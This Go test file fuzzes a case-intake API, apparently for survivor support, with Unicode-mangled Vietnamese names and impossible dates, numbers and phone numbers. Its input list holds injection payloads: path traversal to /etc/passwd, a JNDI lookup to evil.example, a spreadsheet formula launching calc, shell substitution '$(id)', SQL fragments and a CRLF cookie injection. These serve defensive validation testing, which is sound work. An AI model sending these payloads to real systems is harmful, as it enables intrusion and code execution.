package app_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/getkin/kin-openapi/openapi3"
	"golang.org/x/text/unicode/norm"
)

// brand stands in every text of this battery, so that it is known wherever it should not be.
const brand = "Zq9kMk"

// twists turn what people write into what machines, keyboards, old encodings and attackers make of it.
func twists() map[string]func(string) string {
	bytewise := func(s string) string { // UTF-8 read as Latin-1
		var b strings.Builder
		for i := range len(s) {
			b.WriteRune(rune(s[i]))
		}
		return b.String()
	}
	each := func(f func(int, rune) string) func(string) string {
		return func(s string) string {
			var b strings.Builder
			for i, r := range s {
				b.WriteString(f(i, r))
			}
			return b.String()
		}
	}
	between := func(mark string) func(string) string {
		return each(func(i int, r rune) string { return map[bool]string{true: mark}[i > 0] + string(r) })
	}
	around := func(before, after string) func(string) string {
		return func(s string) string { return before + s + after }
	}
	return map[string]func(string) string{
		"NFC": norm.NFC.String, "NFD": norm.NFD.String, "NFKD": norm.NFKD.String, "half decomposed": strings.NewReplacer("ễ", "ê\u0303", "ộ", "ọ\u0302", "ế", "é\u0302", "ở", "o\u0309\u031b").Replace,
		"TCVN3":         strings.NewReplacer("à", "µ", "á", "¸", "ả", "¶", "ã", "·", "ạ", "¹", "đ", "®", "Đ", "§", "ê", "ª", "ế", "Õ", "ễ", "Ô", "ệ", "Ö", "ô", "«", "ộ", "é", "ơ", "¬", "ư", "\u00ad", "ữ", "÷", "ị", "Þ", "ứ", "ø").Replace,
		"VNI":           strings.NewReplacer("à", "aø", "á", "aù", "ả", "aû", "ã", "aõ", "ạ", "aï", "đ", "ñ", "Đ", "Ñ", "ê", "eâ", "ế", "eá", "ễ", "eã", "ệ", "eä", "ô", "oâ", "ộ", "oä", "ơ", "ô", "ư", "ö", "ữ", "öõ", "ứ", "öù").Replace,
		"twice encoded": bytewise, "thrice encoded": func(s string) string { return bytewise(bytewise(s)) }, "Icelandic Đ": strings.NewReplacer("Đ", "Ð", "đ", "ð").Replace, "African Đ": strings.NewReplacer("Đ", "Ɖ", "đ", "ɖ").Replace,
		"right to left": around("\u202e", "\u202c"), "isolated": around("\u2067", "\u2069"), "Arabic mark": between("\u061c"), "zero-width": between("\u200b"), "joined": between("\u200d"), "word joiner": between("\u2060"), "soft hyphens": between("\u00ad"), "BOM": around("\ufeff", "\ufeff"), "variation": between("\ufe0f"),
		"tag letters": around("", "\U000e0041\U000e0042\U000e007f"), "Cyrillic": strings.NewReplacer("a", "а", "e", "е", "o", "о", "c", "с", "p", "р", "i", "і", "h", "һ", "A", "А", "T", "Т", "H", "Н", "N", "Ν").Replace,
		"full width": each(func(_ int, r rune) string {
			if r > 0x20 && r < 0x7f {
				r += 0xfee0
			}
			return string(r)
		}),
		"mathematical": each(func(_ int, r rune) string {
			if r >= 'a' && r <= 'z' {
				r += 0x1d41a - 'a'
			}
			return string(r)
		}),
		"stacked": between("\u0323\u0302\u0301\u030c"), "Turkish": strings.NewReplacer("i", "İ", "I", "ı").Replace, "NUL": around("\x00", ""), "NUL inside": between("\x00"), "escape": around("\x1b[31m", "\x1b[0m"), "bell": around("\a\b", "\x7f"), "C1": around("\u0085\u009b", "\u009c"), "lines": between("\r\n"), "line separator": between("\u2028\u2029"),
		"tabs": between("\t\v\f"), "odd spaces": between("\u00a0\u2003\u3000"), "emoji": around("👩\u200d👧\u200d👦🇻🇳", "🏴\U000e0067\U000e007f"), "four bytes": around("𠜎𠜱", "\U0010ffff"), "private use": around("\ue000", "\U000f0000"), "not characters": around("\ufffe", "\uffff"), "replacement": around("\ufffd", "\ufffd"), "object": around("\ufffc", "\ufff9x\ufffa"),
		"backslashes": around(`\u0000\x00\0`, `\`), "percent": around("%s%n%00", "%"), "entities": around("&#0;&#x202e;", "&lt;"), "doubled": func(s string) string { return strings.Repeat(s+" ", 30) }, "very long": func(s string) string { return strings.Repeat(s, 2000) }, "marks": around("", strings.Repeat("\u0301", 400)),
	}
}

// texts are at least five hundred: every twist of names and sentences of people, of languages of the highlands too.
func texts() (all []string) {
	said := []string{"Người Thử Nghiệm", "Đặng Thị Ứng Thử", "Y Thử Kơtu", "H'Thử Niê Kđăm", "A Thử Xêđăng", "Nguyễn Ngọc Mỹ Thử", "Thôn Đăk Thử, xã Bờ Y", "Chị ấy chờ ở chợ lúc 9 giờ", "thử@example.org", "O'Thử–Trần", "0900 000 001", "1; 2, 3."}
	for _, twist := range twists() {
		for _, s := range said {
			all = append(all, brand+" "+twist(s))
		}
	}
	for _, s := range []string{"", "NULL", "null", "undefined", "true", "NaN", "Infinity", "1e400", "-0", "0x1F", "١٢٣", "໑໒໓", "Ⅳ", "½", "مرحبا", "שלום", "ไทย", "ខ្មែរ", "中文", "ﷺ", "Ǆ", "ﬃ", "ß", "../../etc/passwd", `C:\con`, "file:///etc/passwd", "https://evil.example", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://evil.example}", "=cmd|' /C calc'!A0", "+84", "@SUM(1)",
		"<b>", "]]>", "--", "/*", ";", "'", `"`, "`", "$(id)", "|id", "a\r\nSet-Cookie: so=x", "a\nb", "\u3164", "\u115f", "\u180e", "\u2800", "\u17b4", "a\u0345", "\u1e9b\u0323", "\u212b", "\u2126", "\u0958", "가각", "\ud7a3\u11a8", "e\u0301e\u0301", "q\u0323\u0307", "q\u0307\u0323", "\u0344", "\u0f73", "\u0340\u0341"} {
		all = append(all, brand+s)
	}
	return all
}

// TestATextIsKeptAsWrittenOrRefusedWhereverItIsTyped sends texts to every text of every body: each is taken or refused, never a failure of ours, and none comes into the log.
// What a case has taken reads the same each time, is composed (NFC), and writing what was read changes nothing.
func TestATextIsKeptAsWrittenOrRefusedWhereverItIsTyped(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	all := texts()
	if len(all) < 500 {
		t.Fatalf("only %d texts", len(all))
	}
	type shot struct {
		b     battery
		f     field
		text  string
		where string
	}
	var shots []shot
	places := 0
	for _, b := range s.batteries(t) {
		if strings.HasSuffix(b.path, "/proof") { // five wrong ones end the session; walls_test.go counts them
			continue
		}
		seen := map[string]bool{}
		for _, base := range b.bases {
			fields(b.schema, base, func(f field) {
				list, _ := f.schema.Extensions["x-codelist"].(string)
				if seen[f.pointer] || !f.schema.Type.Includes("string") || list != "" || len(f.schema.Enum) > 0 || f.schema.Format == "uuid" {
					return
				}
				seen[f.pointer] = true
				places++
				for _, text := range all {
					shots = append(shots, shot{b, f, text, b.method + " " + b.path + f.pointer})
				}
			}, func(string, *openapi3.Schema, func(string, any) any) {})
		}
	}
	shots = sampled(shots, 800)
	var seen tally
	nobody := s.As(t, "")
	together(shots, func(x shot) {
		c := nobody
		if x.b.who != "" {
			c = s.clients[x.b.who]
		}
		got := c.Do(x.b.method, x.b.path, x.f.put(x.text), x.b.headers...)
		seen.add(got.Status)
		if got.Status >= 500 || strings.Contains(got.Header.Get("Content-Type"), "json") && !utf8.Valid(got.Body) {
			t.Errorf("%s with %.60q: %s: %s", x.where, x.text, describe(got), s.why(got))
		}
		if got.Status >= 400 && strings.Contains(string(got.Body), brand) {
			t.Errorf("%s with %.60q: a refusal quotes it: %s", x.where, x.text, describe(got))
		}
	})
	if strings.Contains(s.Log.String(), brand) {
		t.Error("a text stands in the log")
	}
	t.Logf("%d texts, %d places: %v", len(all), places, seen.got)
	counted(t, "texts", len(shots), 800, 500*100)

	c := s.clients["tuvan.kontum"]
	kept := 0
	for i, text := range sampled(all, 40) {
		at := []string{"survivor.name", "narrative", "safe_contact.value", "incidents.0.description"}[i%4]
		body := map[string]any{"intake": map[string]any{"channel": "IN_PERSON"}, "survivor": map[string]any{"name": text}, "narrative": text, "safe_contact": map[string]any{"channel": "OTHER", "value": text}, "incident": map[string]any{"description": text, "acts": []string{"A"}}}
		made := c.Do("POST", "/api/v1/cases", body)
		if made.Status == http.StatusUnprocessableEntity {
			continue
		}
		kept++
		path := "/api/v1/cases/" + made.Text("id")
		read := c.Must(http.StatusOK, "GET", path, nil)
		if made.Text(at) != read.Text(at) || !norm.NFC.IsNormalString(read.Text(at)) || !strings.Contains(read.Text(at), brand) {
			t.Errorf("%q at %s was answered as %q and read as %q", text, at, made.Text(at), read.Text(at))
		}
		again := c.Must(http.StatusOK, "PATCH", path, map[string]any{"narrative": read.Text("narrative"), "survivor": map[string]any{"name": read.Text("survivor.name")}, "safe_contact": map[string]any{"value": read.Text("safe_contact.value")}}, "If-Match", read.Header.Get("ETag"))
		if again.Header.Get("ETag") != read.Header.Get("ETag") {
			t.Errorf("%q: writing what was read changed it to %q", text, again.Text("narrative"))
		}
	}
	if kept < 15 {
		t.Errorf("only %d were kept", kept)
	}
}

// never are values that nobody's date, time, number or identity can be, by the field that must refuse them.
func never() map[string][]any {
	dates := []any{"31/4", "31/04/2020", "30/2/2020", "2020-04-31", "2020-06-31", "2020-09-31", "2020-11-31", "2020-02-30", "2020-02-31", "2023-02-29", "2022-02-29", "2100-02-29", "1900-02-29", "2020-00-01", "2020-13-01", "2020-01-00", "2020-01-32", "0000-01-01", "0000-00-00", "0001-01-01", "-0001-01-01", "+2020-01-01", "12020-01-01", "20200101",
		"2020-1-1", "2020-01-1", "2020-1-01", "2020.01.01", "2020/01/01", "01-01-2020", "1/1/2020", "2020–01–01", "２０２０-01-01", "٢٠٢٠-01-01", "2020-01-01T00:00:00Z", "2020-01-01 00:00", "2020-01-01Z", "2020-01-01+07:00", "2020-W01-1", "2020-001", "2020-366", "today", "now", "hôm qua", "infinity", "-infinity", "epoch", "30 tháng Chạp", "mùng 1 Tết", "rằm tháng bảy",
		"Canh Tý", "30/12 âm lịch", "2020-02-30 âm", "1e3", "0x7e4", "NaN", "null", "9999-12-31", "2199-01-01", "1000-01-01", "1799-12-31", "2020-01-01\x00", "2020-01-01\u202e", "2020-01-01;", "'2020-01-01'", "{2020-01-01}", "2020-01-01,2020-01-02", strings.Repeat("2", 500)}
	numbers := []any{-1, -1e9, 1e9, 1e18, 1e300, 0.5, -0.5, 3.14, 121, 999, 2147483648.0, 9007199254740993.0, "5", "05", "-5", "5.0", "5e0", "0x5", " 5", "năm", "NaN", "Infinity", true, false, []any{5}, []any{}, map[string]any{"n": 5}, map[string]any{}}
	years := []any{-1, 0, 1, 19, 99, 190, 1889, 2198, 3000, 9999, 20260, 1e9, 1e300, 1999.5, -1999, "1999", "99", "MCMXCIX", "Kỷ Mão", true, []any{1999}, map[string]any{"y": 1999}}
	phones := []any{"gọi sau", "không có", "09OO 000 001", "o900000001", "0900-ABC", "0900 000 001 ext 5", "0900 000 001/0900 000 002", "0900000001,0900000002", "0900000001;", "++84900000001", "+", "+84+900", "84+900000001", "12", "1", "0", "+1", "1234567890123456", strings.Repeat("0", 17), strings.Repeat("9", 400), "tel:113", "tel:+84900000001", "sip:a@example.org", "0900_000_001", "0900*000#", "#31#0900000001", "*100#",
		"０９００００００００１", "٠٩٠٠٠٠٠٠٠٠", "0900\x00000", "0900\u202e000001", "'; --", "<b>1</b>", "=1+1", "0900 000 00l", "0900 000 OO1", "₀₉₀₀", "⁰⁹⁰⁰", "①②③④", "१२३४५६७८९", "0900:000:001", "0900|000|001", "0900\\000", "(((", "...", "---", "a", "📞0900000001"}
	cards := []any{"1", "12345678", "1234567890", "12345678901", "1234567890123", strings.Repeat("1", 500), "05119100000A", "O51191000001", "0511910000O1", "l51191000001", "051191000001x", "051 191 000 00", "051191000001/2", "051191000001,051191000002", "０５１１９１０００００１", "٠٥١١٩١٠٠٠٠٠١", "051191000001\x00", "051191000001\u202e", "'; --", "<b>", "CMND 123456789", "số 123456789", "-", ".", "+51191000001", "0x5119100000", "5.1191e10", "B1234567", "C123456789", "không nhớ", "051_191_000_001", "051:191:000:001", "(051)191000001", "⁰51191000001", "①23456789", "051191000001'"}
	times := []any{"hôm qua", "now", "2026-11-20", "20/11/2026", "10:00", "2026-11-20T10:00:00", "2026-11-20T24:00:01Z", "2026-11-20T25:00:00Z", "2026-11-20T10:60:00Z", "2026-11-20T10:00:61Z", "2026-11-20T10:00:00+24:00", "2026-11-20T10:00:00+99:00", "2026-11-20T10:00:00+7", "2026-11-20T10:00:00+0700x", "2026-11-20T10:00:00 ICT", "2026-11-20t10.00.00z", "2026-11-31T10:00:00Z", "2026-02-29T10:00:00Z", "0000-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "99999-01-01T00:00:00Z",
		"10000-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2199-01-01T00:00:00Z", "infinity", "-infinity", "1732437000", "1732437000000", "2026-11-20T10:00:00Z\x00", "２０２６-11-20T10:00:00Z", "20261120T100000Z", "2026-W47-5T10:00:00Z", "2026-324T10:00:00Z", "Fri, 20 Nov 2026 10:00:00 GMT", "2026-11-20T-1:00:00Z", "2026-11-20T10:00:00.Z", "'; select 1; --", strings.Repeat("2", 400)}
	return map[string][]any{"/survivor/birth_date": dates, "/incident/occurred_on": dates, "/survivor/age": numbers, "/survivor/birth_year": years, "/survivor/phone": phones, "/survivor/id_number": cards, "/intake/received_at": times}
}

func TestADateOrNumberThatCannotBeIsRefused(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	var all []spoiled
	bodyWith := func(pointer string, v any) map[string]any {
		body := map[string]any{"intake": map[string]any{"channel": "IN_PERSON"}, "survivor": map[string]any{"name": "Người Thử"}, "incident": map[string]any{"acts": []string{"A"}}}
		parts := strings.Split(pointer, "/")
		body[parts[1]].(map[string]any)[parts[2]] = v
		return body
	}
	for pointer, values := range never() {
		for _, v := range values {
			all = append(all, spoiled{b: battery{who: "tuvan.kontum", method: "POST", path: "/api/v1/cases"}, body: bodyWith(pointer, v), pointer: pointer, what: fmt.Sprintf("%s is %.40q", pointer, fmt.Sprint(v))})
		}
	}
	s.shoot(t, all)
	counted(t, "dates and numbers", len(all), 300, 300)
	// And what people's papers do say is taken.
	c := s.clients["tuvan.kontum"]
	for pointer, values := range map[string][]any{
		"/survivor/birth_date": {"2020-02-29", "2000-02-29", "1931-01-01", "1890-01-01", "2024-12-31"}, "/incident/occurred_on": {"2020", "2020-02", "2020-02-29", "1999-12-31"}, "/survivor/age": {0, 1, 17, 120}, "/survivor/birth_year": {1890, 1999, 2026},
		"/survivor/phone": {"0900 000 001", "0900.000.001", "0900-000-001", "(0260) 000 0001", "+84 900 000 001", "84900000001", "01200000001", "111", "113", "1900"}, "/survivor/id_number": {"123456789", "051191000001", "051 191 000 001", "051.191.000.001"},
		"/intake/received_at": {"2026-11-20T10:00:00Z", "2026-11-20T10:00:00+07:00", "2026-11-20T10:00:00.123+07:00", "2020-02-29T23:59:59-11:00", "2020-01-01T00:00:00+14:00"},
	} {
		for _, v := range values {
			if got := c.Do("POST", "/api/v1/cases", bodyWith(pointer, v)); got.Status != http.StatusCreated {
				t.Errorf("%s = %v: %s", pointer, v, describe(got))
			}
		}
	}
}
